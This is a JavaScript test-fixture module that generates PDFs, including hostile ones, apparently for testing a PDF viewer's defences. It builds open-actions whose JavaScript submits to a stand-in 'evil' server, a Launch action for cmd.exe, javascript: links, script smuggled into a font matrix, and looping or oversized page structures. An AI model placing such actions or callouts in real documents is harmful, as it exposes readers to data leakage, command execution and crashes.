// PDF files for tests, made as they are needed: harmless ones, and such as somebody would send who means harm.

/** A file of these objects (numbered from 1; the first is the catalogue), as a Buffer. */
function file(objects, { trailer = "" } = {}) {
	let text = "%PDF-1.7\n";
	const at = objects.map((object, i) => {
		const start = text.length;
		text += `${i + 1} 0 obj\n${object}\nendobj\n`;
		return start;
	});
	const xref = text.length;
	text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((start) => `${String(start).padStart(10, "0")} 00000 n \n`).join("")}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`;
	return Buffer.from(text, "latin1");
}
const stream = (text, more = "") => `<< /Length ${text.length} ${more} >>\nstream\n${text}\nendstream`;
const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** One page for each text. */
export function pages(texts, { catalog = "", page = "", size = "0 0 300 200", font = FONT } = {}) {
	const first = 4, kids = texts.map((_, i) => `${first + 2 * i} 0 R`).join(" ");
	return file([
		`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, `<< /Type /Pages /Count ${texts.length} /Kids [${kids}] >>`, font,
		...texts.flatMap((text, i) => [
			`<< /Type /Page /Parent 2 0 R /MediaBox [${size}] /Resources << /Font << /F 3 0 R >> >> /Contents ${first + 2 * i + 1} 0 R ${page} >>`, stream(`0.1 0.4 0.3 rg 20 20 100 60 re f BT /F 24 Tf 30 120 Td (${text}) Tj ET`),
		]),
	]);
}

/** Each with what is seen of it: a page, or that it can't be. `evil`: a server that counts. */
export function hostile(evil) {
	const js = "app.alert(1); this.submitForm('" + evil + "/js')";
	const loop = file(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R] >>"]);
	const mirror = file(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R >>",
		stream("/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /X 4 0 R >> >>"), stream("/X Do")]);
	return [
		{ name: "scripts and actions", bytes: pages(["Hello"], { catalog: `/OpenAction << /S /JavaScript /JS (${js}) >> /AA << /WC << /S /URI /URI (${evil}/aa) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js}) >>] >> >>`, page: `/AA << /O << /S /Launch /F (cmd.exe) >> >>` }), shows: "page" },
		{ name: "links and files of elsewhere", bytes: pages(["Hello"], { page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:pwned\\(1\\)) >> >> << /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 99 99] /AA << /F << /S /JavaScript /JS (${js}) >> >> >> << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (${evil}/x) /FS /URL >> >>]` }), shows: "page" },
		{ name: "a form of XML", bytes: pages(["Hello"], { catalog: "/AcroForm << /XFA [(template) 3 0 R] /Fields [] >>" }), shows: "page" },
		{ name: "a font that is a program", bytes: pages(["Hello"], { font: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 2 3 4 5 (1\\); pwned\\('font'\\)//)] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [1] >>` }), shows: "page" },
		{ name: "pages without an end", bytes: pages(["Hello"], { size: "0 0 2000000000 2000000000" }), shows: "either" },
		{ name: "a page of no size", bytes: pages(["Hello"], { size: "0 0 0 0" }), shows: "either" },
		{ name: "a tree of pages that leads in circles", bytes: loop, shows: "either" },
		{ name: "a picture that shows itself", bytes: mirror, shows: "either" },
		{ name: "a password", bytes: Buffer.from(pages(["Hello"]).toString("latin1").replace("/Root 1 0 R", `/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <${"41".repeat(32)}> /U <${"42".repeat(32)}> /P -4 >> /ID [<00> <00>]`), "latin1"), shows: "locked" },
		{ name: "something else", bytes: Buffer.from("<html><script>pwned(1)</script>"), shows: "broken" },
		{ name: "cut off", bytes: pages(["Hello"]).subarray(0, 300), shows: "either" },
	];
}
